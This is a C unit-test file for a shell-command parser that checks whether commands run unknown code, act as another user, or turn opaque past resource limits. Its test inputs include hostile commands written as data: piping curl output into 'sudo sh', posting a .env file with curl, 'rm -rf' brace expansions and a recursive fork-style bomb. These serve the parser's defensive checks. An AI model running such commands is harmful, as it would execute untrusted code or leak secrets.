#include "arena.h"
#include "buf.h"
#include "err.h"
#include "shell.h"

#include "unit.h"

#define CASES "tests/cases/shell.txt"

struct fixture {
	struct arena arena;
	struct shell_reading reading;
};

static void read_at(struct fixture *f, const char *text, size_t len,
    const struct shell_start *start)
{
	struct err err = {0};

	memset(f, 0, sizeof(*f));
	assert_int_equal(
	    shell_read(&f->reading, text, len, start, &f->arena, &err), 0);
}

static void read_text(struct fixture *f, const char *text)
{
	static const struct shell_start start = {
	    .home = "/home/dev", .user = "dev"};

	read_at(f, text, strlen(text), &start);
}

/* The last command whose program has this name. */
static const struct shell_command *program(
    const struct fixture *f, const char *name)
{
	for (size_t i = f->reading.n; i; i--) {
		const struct shell_command *c = &f->reading.commands[i - 1];

		if (c->n_words && !strcmp(c->words[0].text, name))
			return c;
	}
	fail_msg("no command %s", name);
	return NULL;
}

static void a_word_says_what_is_known_of_it(void **state)
{
	const struct shell_command *c;
	struct fixture f;

	(void)state;
	read_text(&f, "rm a \"$x\" b$x $y '*' *.c \"a*\"*");
	c = program(&f, "rm");
	assert_int_equal(c->n_words, 8);
	assert_int_equal(c->words[1].known, SHELL_LITERAL);
	assert_int_equal(c->words[2].known, SHELL_UNKNOWN);
	assert_false(c->words[2].flags & SHELL_WORD_MANY);
	assert_int_equal(c->words[3].known, SHELL_PARTLY);
	assert_int_equal(c->words[3].text[0], 'b');
	assert_int_equal(c->words[3].text[1], SHELL_HOLE);
	assert_true(c->words[4].flags & SHELL_WORD_MANY);
	assert_false(c->words[5].flags & SHELL_WORD_GLOB);
	assert_true(c->words[6].flags & SHELL_WORD_GLOB);
	assert_string_equal(c->words[6].pattern, "*.c");
	assert_string_equal(c->words[7].text, "a**");
	assert_string_equal(c->words[7].pattern, "a\\**");
	assert_false(f.reading.opaque);
	arena_free(&f.arena);
}

static void offsets_point_into_the_text(void **state)
{
	const char *text = "a; eval 'rm x'; (b c)";
	const struct shell_command *c;
	struct fixture f;

	(void)state;
	read_text(&f, text);
	c = program(&f, "b");
	assert_int_equal(c->at, strlen("a; eval 'rm x'; ("));
	assert_int_equal(c->len, 3);
	c = program(&f, "rm");
	assert_int_equal(c->at, 3);
	assert_string_equal(c->via->text, "eval");
	assert_null(c->via->outer);
	arena_free(&f.arena);
}

static void a_pipe_says_who_writes_into_it(void **state)
{
	const struct shell_command *c;
	struct fixture f;

	(void)state;
	read_text(&f, "(curl u; cat x) | tee f | sudo sh");
	c = program(&f, "tee");
	assert_int_equal(c->input.kind, SHELL_IN_PIPE);
	assert_int_equal(c->input.from.first, 0);
	assert_int_equal(c->input.from.n, 2);
	c = program(&f, "sh");
	assert_int_equal(c->code.first, 2);
	assert_int_equal(c->code.n, 1);
	assert_true(c->flags & SHELL_RUNS_UNKNOWN_CODE);
	assert_true(c->flags & SHELL_AS_OTHER);
	assert_true(f.reading.opaque);
	assert_true(f.reading.opaque_code);
	arena_free(&f.arena);
}

static void a_word_says_whose_output_it_holds(void **state)
{
	const struct shell_command *c;
	struct fixture f;

	(void)state;
	read_text(&f, "ls; X=$(cat .env); curl -d \"$X\" u");
	c = program(&f, "curl");
	assert_int_equal(c->words[2].from.first, 1);
	assert_int_equal(c->words[2].from.n, 1);
	assert_int_equal(c->words[2].known, SHELL_UNKNOWN);
	arena_free(&f.arena);
}

static void the_start_is_what_the_shell_knows(void **state)
{
	static const struct shell_start start = {.cwd = "/w/p",
	    .home = "/h",
	    .user = "u",
	    .tmpdir = "/t",
	    .oldpwd = "/o"};
	const char *text = "cd a && rm $PWD $OLDPWD $HOME $USER $TMPDIR ~u ~+";
	static const char *const want[] = {
	    "rm", "/w/p/a", "/w/p", "/h", "u", "/t", "/h", "/w/p/a"};
	const struct shell_command *c;
	struct fixture f;

	(void)state;
	read_at(&f, text, strlen(text), &start);
	c = program(&f, "rm");
	assert_string_equal(c->cwd, "/w/p/a");
	assert_null(c->cwd_else);
	for (size_t i = 0; i < c->n_words; i++)
		assert_string_equal(c->words[i].text, want[i]);
	arena_free(&f.arena);
}

static void nothing_is_known_without_a_start(void **state)
{
	const struct shell_command *c;
	const char *text = "rm $HOME ~ $PWD $TMPDIR";
	struct fixture f;

	(void)state;
	read_at(&f, text, strlen(text), NULL);
	c = program(&f, "rm");
	for (size_t i = 1; i < c->n_words; i++)
		assert_int_equal(c->words[i].known, SHELL_UNKNOWN);
	assert_string_equal(c->cwd, ".");
	arena_free(&f.arena);
}

static void zsh_counts_from_one(void **state)
{
	static const struct shell_start start = {.dialect = SHELL_ZSH};
	const char *text = "a=(echo rm); ${a[1]} x";
	struct fixture f;

	(void)state;
	read_at(&f, text, strlen(text), &start);
	program(&f, "echo");
	assert_false(f.reading.opaque);
	arena_free(&f.arena);
}

static void a_text_too_long_is_opaque(void **state)
{
	size_t len = SHELL_MAX_TEXT + 1;
	char *text = malloc(len);
	struct fixture f;

	(void)state;
	assert_non_null(text);
	memset(text, 'a', len);
	read_at(&f, text, len, NULL);
	assert_true(f.reading.opaque);
	assert_int_equal(f.reading.n, 0);
	arena_free(&f.arena);
	free(text);
}

static void repeated(
    struct fixture *f, const char *head, const char *piece, size_t times)
{
	struct buf text = BUF_INIT((size_t)8 << 20);

	buf_addstr(&text, head);
	for (size_t i = 0; i < times; i++)
		buf_addstr(&text, piece);
	assert_false(text.failed);
	read_at(f, text.data, text.len, NULL);
	buf_free(&text);
}

static void past_each_ceiling_lies_opaque(void **state)
{
	static const struct {
		const char *head, *piece;
		size_t times;
	} bombs[] = {
	    {"", "(", 1000},
	    {"", "a;", SHELL_MAX_COMMANDS + 1},
	    {"echo", " a", SHELL_MAX_NODES},
	    {"f(){ f;f; };", "f;", 20000},
	    {"x=aaaaaaaa;", "x=$x$x;", 40},
	};
	struct fixture f;

	(void)state;
	for (size_t i = 0; i < sizeof(bombs) / sizeof(*bombs); i++) {
		repeated(&f, bombs[i].head, bombs[i].piece, bombs[i].times);
		if (i < 4)
			assert_true(f.reading.opaque);
		assert_true(f.reading.n <= SHELL_MAX_COMMANDS);
		arena_free(&f.arena);
	}
}

static void a_brace_bomb_is_an_unknown_operand(void **state)
{
	const struct shell_command *c;
	struct fixture f;

	(void)state;
	repeated(&f, "rm ", "{a,b}", 20);
	c = program(&f, "rm");
	assert_int_equal(c->n_words, 2);
	assert_int_equal(c->words[1].known, SHELL_UNKNOWN);
	assert_true(c->words[1].flags & SHELL_WORD_MANY);
	assert_false(f.reading.opaque);
	arena_free(&f.arena);
	repeated(&f, "", "{rm,-rf}", 20);
	assert_true(f.reading.opaque);
	arena_free(&f.arena);
}

static void a_nul_byte_is_opaque(void **state)
{
	struct fixture f;

	(void)state;
	read_at(&f, "ls\0rm a", 7, NULL);
	assert_true(f.reading.opaque);
	arena_free(&f.arena);
}

static void no_memory_is_an_error(void **state)
{
	struct arena arena = {.used = ARENA_MAX};
	struct shell_reading reading;
	struct err err = {0};

	(void)state;
	assert_int_equal(
	    shell_read(&reading, "rm a", 4, NULL, &arena, &err), -1);
	assert_int_equal(err.kind, ERR_MEMORY);
}

/* --- the cases --- */

static int hex(char c)
{
	return c >= 'a' ? c - 'a' + 10 : c - '0';
}

/* In place: \n \t \r \\ \xHH */
static size_t unescape(char *text)
{
	size_t n = 0;

	for (char *at = text; *at; at++) {
		if (*at != '\\') {
			text[n++] = *at;
			continue;
		}
		at++;
		if (*at == 'x') {
			text[n++] = (char)(hex(at[1]) * 16 + hex(at[2]));
			at += 2;
		} else {
			text[n++] = *at == 'n'   ? '\n'
				    : *at == 't' ? '\t'
				    : *at == 'r' ? '\r'
						 : *at;
		}
	}
	return n;
}

/* The reading as the second and third line of a case. */
static void show(struct buf *out, const struct shell_reading *reading)
{
	struct shell_reading commands = *reading;
	struct buf lines = BUF_INIT((size_t)1 << 20);

	commands.opaque = false;
	shell_print(&lines, &commands);
	if (!lines.len)
		buf_addstr(out, "-");
	for (size_t i = 0; i + 1 < lines.len; i++) {
		if (lines.data[i] == '\n')
			buf_addstr(out, " ;; ");
		else
			buf_addch(out, lines.data[i]);
	}
	buf_addch(out, '\n');
	if (reading->opaque)
		buf_addf(out, "opaque: %s\n", reading->opaque_why);
	else
		buf_addstr(out, "understood\n");
	buf_free(&lines);
}

static bool next_line(FILE *file, char *line, size_t size)
{
	while (fgets(line, (int)size, file)) {
		if (line[0] == '\n' || !strncmp(line, "# ", 2))
			continue;
		return true;
	}
	return false;
}

static void every_case_is_seen_as_written(void **state)
{
	static const struct shell_start start = {
	    .home = "/home/dev", .user = "dev"};
	char text[4096], seen[8192], verdict[512], shown[4096];
	FILE *file = fopen(CASES, "r");
	size_t count = 0, wrong = 0;

	(void)state;
	assert_non_null(file);
	while (next_line(file, text, sizeof(text))) {
		struct buf got = BUF_INIT((size_t)1 << 20);
		struct buf want = BUF_INIT((size_t)1 << 20);
		struct fixture f;

		assert_true(fgets(seen, sizeof(seen), file) != NULL);
		assert_true(fgets(verdict, sizeof(verdict), file) != NULL);
		text[strcspn(text, "\n")] = '\0';
		memcpy(shown, text, sizeof(shown));
		read_at(&f, text, unescape(text), &start);
		show(&got, &f.reading);
		buf_addf(&want, "%s%s", seen, verdict);
		if (strcmp(got.data, want.data)) {
			print_message("case: %s\n seen: %s want: %s", shown,
			    got.data, want.data);
			wrong++;
		}
		count++;
		buf_free(&got);
		buf_free(&want);
		arena_free(&f.arena);
	}
	fclose(file);
	assert_int_equal(wrong, 0);
	assert_true(count > 500);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    TEST(a_word_says_what_is_known_of_it),
	    TEST(offsets_point_into_the_text),
	    TEST(a_pipe_says_who_writes_into_it),
	    TEST(a_word_says_whose_output_it_holds),
	    TEST(the_start_is_what_the_shell_knows),
	    TEST(nothing_is_known_without_a_start),
	    TEST(zsh_counts_from_one),
	    TEST(a_text_too_long_is_opaque),
	    TEST(past_each_ceiling_lies_opaque),
	    TEST(a_brace_bomb_is_an_unknown_operand),
	    TEST(a_nul_byte_is_opaque),
	    TEST(no_memory_is_an_error),
	    TEST(every_case_is_seen_as_written),
	};

	return RUN_TESTS(tests);
}
